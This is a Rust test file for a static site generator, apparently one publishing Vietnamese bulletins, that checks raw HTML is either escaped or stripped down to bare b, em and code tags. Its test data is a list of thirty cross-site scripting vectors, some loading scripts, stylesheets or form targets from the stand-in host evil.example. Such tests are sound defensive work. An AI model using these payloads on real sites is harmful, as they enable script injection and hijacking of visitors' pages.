//! Raw HTML in a text is words, or, where the site lets it pass, a mark around words.

use super::{SITE, assert_inert, bulletin, published};
use crate::support::filled::unbalanced;
use crate::support::html::{inside, tags, words};

/// Ways to bring a script into a page, each with words that must stay to be read.
const VECTORS: [&str; 30] = [
    "<script>alert('zq')</script>",
    "<SCRIPT SRC=//evil.example/x.js>zq</SCRIPT>",
    "<img src=x onerror=alert('zq')>",
    "<img src=\"x\" alt=\"``onerror=alert(1)\">zq",
    "<svg onload=alert('zq')>",
    "<svg><script href='data:,alert(1)'/>zq</svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert('zq')>",
    "<iframe srcdoc='<script>alert(1)</script>'>zq</iframe>",
    "<a href='javascript:alert(1)'>zq</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">zq</a>",
    "<b onmouseover=alert('zq')>a</b>",
    "<b style='background:url(//evil.example)'>zq</b>",
    "<b\n onclick=alert('zq')\n>a</b>",
    "<em/onclick=alert('zq')>a</em>",
    "<code class=\"x\" id=\"_main\" name=\"frame\">zq</code>",
    "<base href='//evil.example/'>zq",
    "<meta http-equiv=refresh content='0;url=//evil.example'>zq",
    "<link rel=stylesheet href=//evil.example/x.css>zq",
    "<form action=//evil.example><input name=zq></form>",
    "<button formaction=javascript:alert('zq')>a</button>",
    "<object data='data:text/html,zq'></object>",
    "<embed src=//evil.example/zq>",
    "<!--><script>alert('zq')</script>-->",
    "<!-- <!-- --><script>alert('zq')</script>",
    "<![CDATA[><script>alert('zq')</script>]]>",
    "<?php zq ?><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('zq')>\">",
    "<textarea></textarea><script>zq</script>",
    "</main></body></html><script>zq</script>",
    "<b><p>zq</b></p></div></main>",
];

fn build(vector: &str, setting: &str) -> crate::support::built::Built {
    let config = format!("{SITE}raw_html: {setting}\n");
    // In a paragraph, as a block, in a list, a heading, a table, a link, an emphasis and a footnote.
    let in_line = vector.replace('\n', " ");
    let text = format!(
        "Đầu {vector} cuối.\n\n{vector}\n\n- mục {vector}\n\n## Đề mục {in_line}\n\n| a | b |\n|---|---|\n| {} | 2 |\n\n[liên kết {in_line}](https://a.vn) *nghiêng {in_line}* và[^a]\n\n[^a]: {in_line}\n",
        in_line.replace('|', "\\|"),
    );
    let page = bulletin("", &text);
    let standing = format!("---\ntitle: Giới thiệu\n---\n{vector}\n");
    published(&[
        ("content/site.yaml", &config),
        ("content/bulletins/a.md", &page),
        ("content/pages/gioi-thieu.md", &standing),
    ])
}

#[test]
fn html_in_a_text_is_shown_as_it_was_written() {
    for vector in VECTORS {
        let built = build(vector, "text");
        assert_inert(&built);
        let page = built.page("ban-tin/2024/a.html");
        assert_eq!(unbalanced(page), None, "{vector}");
        let shown = words(inside(page, "main"));
        assert!(shown.contains("zq"), "{vector}: its words are gone from\n{shown}");
    }
}

#[test]
fn where_html_may_pass_only_bare_marks_do() {
    for vector in VECTORS {
        let built = build(vector, "sanitise");
        assert_inert(&built);
        let page = built.page("ban-tin/2024/a.html");
        assert_eq!(unbalanced(page), None, "{vector}");
        let foreign = tags(inside(page, "main")).into_iter().find(|tag| {
            let marks = matches!(tag.name, "b" | "em" | "code") && !page.contains("bt-abbreviation");
            marks && tag.attributes().next().is_some()
        });
        assert_eq!(foreign, None, "{vector}");
    }
}
